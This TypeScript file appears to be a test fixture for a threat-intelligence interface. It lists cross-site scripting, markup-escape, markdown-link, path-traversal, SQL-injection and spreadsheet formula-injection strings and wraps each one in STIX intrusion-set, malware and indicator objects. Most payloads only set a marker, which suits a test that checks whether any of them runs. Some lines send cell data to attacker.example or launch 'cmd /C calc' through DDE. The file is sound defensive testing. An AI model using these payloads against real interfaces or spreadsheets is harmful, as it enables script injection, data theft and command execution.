/** Texts that would run, load or move something in an interface that made markup of data; and a bundle that has them everywhere. */

/** What every payload calls when it runs; the suite looks whether anybody did. */
export const MARKER = 'sextantHit';
const CALL = `window.${MARKER}=1`;
const CALL_DOTLESS = `window['${MARKER}']=1`;

const elements = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC="data:text/javascript,${CALL}"></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}" //`,
  `<image src=x onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}">`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="data:text/html,<script>opener.${MARKER}=1</script>">`,
  `<video><source onerror=${CALL}></video>`,
  `<video src=x onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<form action="javascript:${CALL}"><input type=submit></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<link rel=stylesheet href="data:text/css,*{background:red}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<style>*{display:none!important}</style>`,
  `<style>@import 'data:text/css,*{display:none}';</style>`,
  `<style onload=${CALL}></style>`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java&#09;script:${CALL}">x</a>`,
  `<a href=" javascript:${CALL}">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href=x onmouseover=${CALL}>x</a>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">x</div>`,
  `<div onpointerenter=${CALL} style="position:fixed;inset:0">x</div>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<title><p title="</title><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<portal src="javascript:${CALL}">`,
  `<dialog open onclose=${CALL}><form method=dialog><button>x</button></form></dialog>`,
  `<x onclick=${CALL} contenteditable>x</x>`,
  `<webview src="data:text/html,<script>${CALL}</script>"></webview>`,
];

const escapes = [
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `"><img src=x onerror=${CALL}>`,
  `'"><svg/onload=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `' onfocus='${CALL}' autofocus='`,
  `\` onload=${CALL} \``,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</svg><script>${CALL}</script>`,
  `</text><script>${CALL}</script><text>`,
  `]]></text><image href="x" onerror="${CALL}"/>`,
  `--><script>${CALL}</script><!--`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `＜script＞${CALL}＜/script＞`,
  `<\u0000script>${CALL}</script>`,
  `<scr\u0000ipt>${CALL}</script>`,
  `\u2028<script>${CALL}</script>\u2029`,
  `'-${CALL}-'`,
  `"-${CALL}-"`,
  `';${CALL};//`,
  `");${CALL};//`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL_DOTLESS}')()}}`,
  `{{${CALL}}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `$\{alert(1)}`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${CALL}"}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `data(x), node[id="x"], { width: 9999 }`,
  `url("data:image/svg+xml,<svg onload='${CALL}'/>")`,
  `expression(${CALL})`,
  `; background-image: url(https://attacker.example/x); `,
];

const markdown = [
  `[x](javascript:${CALL})`,
  `[x](JaVaScRiPt:${CALL})`,
  `[x](java\nscript:${CALL})`,
  `[x](data:text/html,<script>${CALL}</script>)`,
  `[x](vbscript:${CALL})`,
  `[x](app://ui/index.html)`,
  `[x](app://core/core.html)`,
  `[x](file:///etc/passwd)`,
  `[x](//attacker.example/x)`,
  `![x](javascript:${CALL})`,
  `![x](https://attacker.example/pixel.png)`,
  `![x](data:image/svg+xml,<svg onload='${CALL}'/>)`,
  `![x"onerror="${CALL}](x)`,
  `[x]: javascript:${CALL}\n[x]`,
  `<javascript:${CALL}>`,
  `[![x](x)](javascript:${CALL})`,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  `(Citation: <img src=x onerror=${CALL}>)`,
  `(Citation: ](javascript:${CALL}))`,
  `| a |\n|---|\n| <img src=x onerror=${CALL}> |`,
  `https://attacker.example/?q="><script>${CALL}</script>`,
  `hxxps://attacker[.]example/"onmouseover="${CALL}`,
  `javascript://attacker.example/%0a${CALL}`,
  `[^1]: <script>${CALL}</script>\n[^1]`,
];

const odd = [
  '\u202Egnp.exe\u202C',
  '\u2066right\u2069 to \u200Fleft',
  'a\u0300'.repeat(200),
  '\uFEFF\u200B\u200C\u200D\u2060hidden',
  'x'.repeat(5000),
  'W'.repeat(300),
  'سلام '.repeat(60),
  '𝕳𝖊𝖑𝖑𝖔 \u{1F4A9} 漢字',
  'line one\nline two\r\nline three\u0085line four',
  '\t\t\ttabs',
  '../../../../etc/passwd',
  'C:\\Windows\\..\\CON.json',
  '%s%n%x%d',
  "'; DROP TABLE objects; --",
  '=HYPERLINK("http://attacker.example","x")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '{0}{count}{name}$&',
  'null',
  'undefined',
  'NaN',
];

export const PAYLOADS: readonly string[] = [...elements, ...escapes, ...markdown, ...odd];

const uuid = (kind: number, index: number) => `5e70a0d1-0000-4${kind.toString().padStart(3, '0')}-8000-${String(index).padStart(12, '0')}`;
const STAMP = '2026-01-02T03:04:05.000Z';
const common = { spec_version: '2.1', created: STAMP, modified: STAMP };

/**
 * Objects whose every text is one of the payloads: an intrusion set, a malware, a technique of a matrix and an observable for each,
 * tied to each other, with labels, aliases, references, phases and platforms made of payloads.
 */
export function hostileBundle(): { text: string; first: { id: string; name: string } } {
  const objects: Record<string, unknown>[] = [];
  const tactic = (index: number) => ({
    ...common,
    type: 'x-mitre-tactic',
    id: `x-mitre-tactic--${uuid(1, index)}`,
    name: PAYLOADS[index] ?? '',
    description: PAYLOADS[index + 1] ?? '',
    x_mitre_shortname: `tactic-${index}`,
    x_mitre_domains: ['enterprise-attack'],
    external_references: [{ source_name: 'mitre-attack', external_id: `TA9${String(index).padStart(3, '0')}`, url: PAYLOADS[index] }],
  });
  const tactics = Array.from({ length: 12 }, (_, index) => tactic(index));
  objects.push(...tactics, {
    ...common,
    type: 'x-mitre-matrix',
    id: `x-mitre-matrix--${uuid(2, 0)}`,
    name: PAYLOADS[3],
    description: PAYLOADS[4],
    tactic_refs: tactics.map(({ id }) => id),
    external_references: [{ source_name: 'mitre-attack', external_id: 'enterprise-attack', url: PAYLOADS[5] }],
  });
  PAYLOADS.forEach((payload, index) => {
    const references = [
      { source_name: 'mitre-attack', external_id: `T9${String(index).padStart(3, '0')}`, url: payload, description: payload },
      { source_name: payload.slice(0, 200) || 'x', description: payload, url: payload },
    ];
    const group = {
      ...common,
      type: 'intrusion-set',
      id: `intrusion-set--${uuid(3, index)}`,
      name: payload,
      description: `${payload}\n\n${payload}`,
      aliases: [payload, `alias ${payload}`],
      goals: [payload],
      labels: [payload],
      external_references: references.slice(1),
    };
    const malware = {
      ...common,
      type: 'malware',
      id: `malware--${uuid(4, index)}`,
      is_family: true,
      name: payload,
      malware_types: [payload],
      description: payload,
    };
    const technique = {
      ...common,
      type: 'attack-pattern',
      id: `attack-pattern--${uuid(5, index)}`,
      name: payload,
      description: payload,
      x_mitre_platforms: [payload.slice(0, 100)],
      x_mitre_domains: ['enterprise-attack'],
      kill_chain_phases: [{ kill_chain_name: 'mitre-attack', phase_name: `tactic-${index % 12}` }],
      external_references: references,
    };
    const url = { type: 'url', spec_version: '2.1', id: `url--${uuid(6, index)}`, value: `https://attacker.example/${payload}` };
    const tie = (source: string, target: string, kind: number, name: string) => ({
      ...common,
      type: 'relationship',
      id: `relationship--${uuid(kind, index)}`,
      relationship_type: name,
      source_ref: source,
      target_ref: target,
      description: payload,
      external_references: references.slice(1),
    });
    objects.push(
      group,
      malware,
      technique,
      url,
      tie(group.id, malware.id, 7, 'uses'),
      tie(group.id, technique.id, 8, 'uses'),
      tie(malware.id, url.id, 9, 'communicates-with'),
      tie(group.id, `intrusion-set--${uuid(3, (index + 1) % PAYLOADS.length)}`, 10, payload.slice(0, 100)),
    );
  });
  return {
    text: JSON.stringify({ type: 'bundle', id: `bundle--${uuid(0, 0)}`, objects }),
    first: { id: `intrusion-set--${uuid(3, 0)}`, name: PAYLOADS[0] ?? '' },
  };
}

/** Texts that a spreadsheet would run, and such as only look like it (OWASP, CSV injection). */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
  '=HYPERLINK("http://attacker.example?x="&A1,"click")',
  '","=1+1',
  '";=1+1;"',
  'x\r\n=1+1',
  'x\n@SUM(1)',
  '"=1+1"',
  '=1+1\n',
  '=',
  '-',
  '+49 30 901820',
  '-5',
  '@handle',
  "'quoted'",
  ',=1+1',
  ';=1+1',
];

const text = (payload: string, index: number): Record<string, unknown> => ({
  ...common,
  id: `malware--${uuid(11, index)}`,
  type: 'malware',
  name: payload,
  is_family: true,
  description: payload,
  aliases: [payload, `a ${payload}`],
  labels: [payload],
  malware_types: [payload],
  first_seen: payload,
  external_references: [{ source_name: payload, url: payload, external_id: payload, description: payload }],
});

/** Objects of the types that writers know, every text of each of them one payload. As they stand in a store: whatever their types forbid. */
export function hostileObjects(payload: string, index: number): Record<string, unknown>[] {
  const malware = text(payload, index);
  const of = (type: string, kind: number, more: Record<string, unknown>): Record<string, unknown> => ({
    ...malware,
    type,
    id: `${type}--${uuid(kind, index)}`,
    ...more,
  });
  const technique = of('attack-pattern', 12, {
    x_mitre_domains: ['enterprise-attack', payload],
    x_mitre_id: payload,
    external_references: [
      { source_name: 'mitre-attack', external_id: `T9${String(index % 1000).padStart(3, '0')}`, url: payload },
      { source_name: payload, external_id: payload, description: payload },
    ],
  });
  const observables = [
    of('url', 13, { value: payload }),
    of('domain-name', 14, { value: payload }),
    of('file', 15, { name: payload, hashes: { MD5: payload, [payload]: payload } }),
    of('windows-registry-key', 16, { key: payload }),
  ];
  const rule = (language: string, kind: number): Record<string, unknown> =>
    of('indicator', kind, { pattern: payload, pattern_type: language, valid_from: payload });
  const indicators = [
    of('indicator', 17, {
      pattern: `[url:value = '${payload.replace(/[\\']/g, '\\$&')}']`,
      pattern_type: 'stix',
      valid_from: STAMP,
    }),
    ...['yara', 'sigma', 'snort', 'suricata', payload].map((language, at) => rule(language, 18 + at)),
  ];
  const tie = of('relationship', 23, { relationship_type: payload, source_ref: malware['id'], target_ref: technique['id'] });
  const sighting = of('sighting', 24, { sighting_of_ref: malware['id'], where_sighted_refs: [technique['id'], payload] });
  const members = [malware, technique, ...observables, ...indicators, tie, sighting];
  const note = of('note', 25, { abstract: payload, content: payload, object_refs: [malware['id']] });
  const report = of('report', 26, {
    published: payload,
    report_types: [payload],
    x_opencti_content: `## Key judgements\n\n- ${payload}\n`,
    object_refs: [...members.map(({ id }) => id), note['id'], payload],
  });
  return [...members, note, report];
}

export const HOSTILE_TEXTS: readonly string[] = [...PAYLOADS, ...FORMULAS];
/** Each of them in every text of objects of every type that writers know. */
export const HOSTILE_OBJECTS: readonly Record<string, unknown>[] = HOSTILE_TEXTS.flatMap(hostileObjects);
